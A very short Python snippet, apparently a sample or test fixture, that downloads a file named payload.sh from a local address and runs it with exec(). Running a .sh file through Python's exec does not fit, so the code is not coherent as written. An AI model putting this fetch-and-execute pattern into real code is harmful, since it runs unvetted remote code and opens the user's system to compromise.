import requests

code = requests.get('http://127.0.0.1:9/payload.sh').text
exec(code)
